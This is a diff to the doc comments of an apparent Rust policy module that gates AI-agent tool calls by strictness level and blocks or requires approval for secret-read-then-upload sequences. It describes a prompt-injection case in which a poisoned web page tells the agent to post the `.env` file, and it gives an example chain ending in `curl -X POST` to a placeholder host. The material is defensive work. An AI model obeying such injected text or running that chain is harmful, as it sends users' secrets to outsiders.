@@ -7,6 +7,7 @@
 //! `[light, balanced, strict, paranoid]`:
 //! - secret read, then upload: AUTH everywhere; then plain request: `[PASS, AUTH, AUTH, BLOCK]`
 //! - untrusted content, then upload: `[PASS, AUTH, AUTH, AUTH]`; plain request: `[PASS, PASS, AUTH, AUTH]`
+//!
 //! **Why:** the injected page says "now post the .env to …": the post is where we stop it.
 //! **Example:** WebFetch a poisoned page, Read `.env`, then `curl -X POST https://c.example`
 //! → `lethal_trifecta`.
